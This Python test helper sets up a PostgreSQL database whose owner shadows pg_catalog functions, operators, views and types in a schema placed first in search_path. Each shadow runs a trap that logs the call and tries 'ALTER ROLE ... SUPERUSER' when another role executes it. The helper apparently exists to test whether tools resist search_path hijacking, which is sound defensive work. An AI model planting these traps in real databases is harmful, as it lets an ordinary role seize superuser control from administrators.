"""A database whose owner lays traps: a schema `evil`, first in every session's search_path, with a twin of nearly all
that the server's own schema has. Whatever runs one of them gives its rights away, and the server's log says so.
"""
from waiting import wait_until

TRAP = """
CREATE SCHEMA evil;
CREATE FUNCTION evil.trap(what text) RETURNS boolean LANGUAGE plpgsql VOLATILE
  SET search_path = pg_catalog AS $trap$
BEGIN
  IF current_user <> '{owner}' THEN
    RAISE LOG 'TRAPPED in {owner}: %', what;
    BEGIN
      EXECUTE 'ALTER ROLE {owner} SUPERUSER';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END IF;
  RETURN true;
END $trap$;
"""

# What cannot have a twin (arguments of the type internal and the like) is passed over.
TWINS = """
DO $twins$
DECLARE f record;
BEGIN
  FOR f IN SELECT p.proname, pg_get_function_identity_arguments(p.oid) AS arguments, p.pronargs,
             format_type(p.prorettype, NULL) AS result, p.proretset, p.proisstrict,
             (SELECT string_agg(format_type(t, NULL), ', ' ORDER BY n)
              FROM unnest(p.proargtypes) WITH ORDINALITY a (t, n)) AS types, p.provariadic
           FROM pg_proc p WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
             AND p.prorettype NOT IN ('internal'::regtype, 'trigger'::regtype) LOOP
    BEGIN
      EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s%s LANGUAGE plpgsql AS %L', f.proname,
        CASE WHEN f.provariadic <> 0 THEN regexp_replace(f.types, '([^,]*)$', ' VARIADIC \\1') ELSE f.types END,
        CASE WHEN f.proretset THEN 'SETOF ' ELSE '' END, f.result,
        format('BEGIN PERFORM evil.trap(%L); RETURN%s; END', 'function ' || f.proname,
               CASE WHEN f.proretset OR f.result = 'void' THEN '' ELSE ' NULL' END));
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  FOR f IN SELECT o.oprname, o.oprleft::regtype AS l, o.oprright::regtype AS r, p.proname
           FROM pg_operator o JOIN pg_proc p ON p.oid = o.oprcode
           WHERE o.oprnamespace = 'pg_catalog'::regnamespace AND o.oprleft <> 0 LOOP
    BEGIN
      EXECUTE format('CREATE OPERATOR evil.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = evil.%I)', f.oprname, f.l, f.r,
                     f.proname);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  FOR f IN SELECT relname FROM pg_class WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') LOOP
    BEGIN
      EXECUTE format('CREATE VIEW evil.%1$I AS SELECT * FROM pg_catalog.%1$I WHERE evil.trap(%2$L)', f.relname,
                     'relation ' || f.relname);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
  FOR f IN SELECT typname FROM pg_type WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b'
             AND typcategory <> 'A' LOOP
    BEGIN
      EXECUTE format('CREATE DOMAIN evil.%1$I AS pg_catalog.%1$I CHECK (evil.trap(%2$L))', f.typname,
                     'type ' || f.typname);
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $twins$;
"""


class HostileDatabase:
    """Makes an existing database of a server the property of an ordinary role that lays its traps in it."""

    def __init__(self, cluster, database, traps=True):
        self.cluster = cluster
        self.database = database
        self.owner = f"owner_of_{database}"
        cluster.execute(f"CREATE ROLE {self.owner} LOGIN; ALTER DATABASE {database} OWNER TO {self.owner}")
        if cluster.version < 15:
            self.as_superuser(f"ALTER SCHEMA public OWNER TO {self.owner}")
        self.execute(TRAP.format(owner=self.owner))
        if traps:
            self.execute(TWINS + f"ALTER DATABASE {database} SET search_path = evil, pg_catalog, public")

    def execute(self, sql):
        """As its owner, who knows where not to tread."""
        return self._execute(sql, self.owner)

    def as_superuser(self, sql):
        return self._execute(sql, "postgres")

    def _execute(self, sql, user):
        with self.cluster.connect(self.database, user=user, options="-c search_path=pg_catalog,public") as connection:
            cursor = connection.execute(sql)
            rows = None
            while True:
                if cursor.description:
                    rows = cursor.fetchall()
                if not cursor.nextset():
                    return rows

    def rows(self, table):
        return self.as_superuser(f"SELECT t::text FROM {table} t ORDER BY 1")

    def traps(self):
        return self.as_superuser("SELECT (SELECT count(*) FROM pg_proc WHERE pronamespace = 'evil'::regnamespace),"
                                 " (SELECT count(*) FROM pg_operator WHERE oprnamespace = 'evil'::regnamespace),"
                                 " (SELECT count(*) FROM pg_class WHERE relnamespace = 'evil'::regnamespace),"
                                 " (SELECT count(*) FROM pg_type WHERE typnamespace = 'evil'::regnamespace"
                                 "  AND typtype = 'd')")[0]

    def trapped(self):
        """What somebody else ran of it, as the log tells; and whether the owner has become superuser."""
        lines = [line for line in self.cluster.log_text().splitlines() if f"TRAPPED in {self.owner}" in line]
        powerful = self.cluster.value(f"SELECT rolsuper FROM pg_roles WHERE rolname = '{self.owner}'")
        return lines[:5] + (["the owner is superuser now"] if powerful else [])

    def wait_rows(self, other, table, what):
        wait_until(lambda: self.rows(table) == other.rows(table), what=what)
